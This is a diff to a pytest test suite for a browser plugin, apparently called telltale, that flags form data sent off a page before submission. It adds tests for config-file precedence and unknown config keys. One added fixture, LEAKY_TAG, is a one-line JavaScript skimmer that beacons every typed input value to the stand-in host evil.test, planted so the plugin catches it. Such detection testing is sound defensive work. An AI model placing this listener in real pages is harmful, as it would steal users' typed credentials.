@@ -108,7 +108,7 @@ def test_a_snippet_that_cannot_be_read_is_a_usage_error(project: pytest.Pytester
     result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider",
                                           "--telltale-snippet", "no-such-snippet.js")
     assert result.ret == pytest.ExitCode.USAGE_ERROR
-    result.stderr.fnmatch_lines(["*--telltale-snippet: cannot read snippet no-such-snippet.js: No such file*"])
+    result.stderr.fnmatch_lines(["*--telltale-snippet: cannot read snippet */no-such-snippet.js: No such file*"])
     assert "passed" not in result.stdout.str()
 
 
@@ -161,3 +161,29 @@ def test_an_observation_window_that_is_no_number_is_a_usage_error(project: pytes
                                           "--telltale-observation-window", "soon")
     assert result.ret == pytest.ExitCode.USAGE_ERROR
     result.stderr.fnmatch_lines(["*--telltale-observation-window must be a number of seconds, 0 or more, got 'soon'*"])
+
+
+LEAKY_TAG = "addEventListener('input', (e) => navigator.sendBeacon('https://evil.test/k', e.target.value), true);\n"
+
+
+def test_the_plugin_reads_the_config_file_with_the_clis_precedence(project: pytest.Pytester) -> None:
+    """telltale.toml is read by pytest as by the CLI: snippet, report and window from the file; a flag still wins."""
+    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
+    (project.path / "leaky.js").write_text(LEAKY_TAG)
+    (project.path / "telltale.toml").write_text('snippet = "leaky.js"\nreport = "from-file"\nobservation_window = 1.5\n')
+    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider")
+    result.assert_outcomes(failed=1)  # the file's leaky snippet was injected, and caught
+    result.stdout.fnmatch_lines(["*not-before-submit: #email*evil.test/k*"])
+    timeline = json.loads((project.path / "from-file" / "runs" / "login-chromium" / "timeline.json").read_text())
+    assert timeline["observation"]["window_ms"] == 1500
+    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider",
+                                          "--telltale-report", "from-flag")
+    assert (project.path / "from-flag" / "runs" / "login-chromium" / "timeline.json").exists()
+
+
+def test_an_unknown_key_in_the_config_file_is_a_usage_error_naming_its_line(project: pytest.Pytester) -> None:
+    (project.path / "scenarios" / "login.yaml").write_text(PASSING)
+    (project.path / "telltale.toml").write_text('report = "r"\nbrowser = "chromium"\n')
+    result = project.runpytest_subprocess("scenarios", "--browser", "chromium", "-p", "no:cacheprovider")
+    assert result.ret == pytest.ExitCode.USAGE_ERROR
+    result.stderr.fnmatch_lines(["*telltale.toml:2: unknown key 'browser'; allowed: *"])
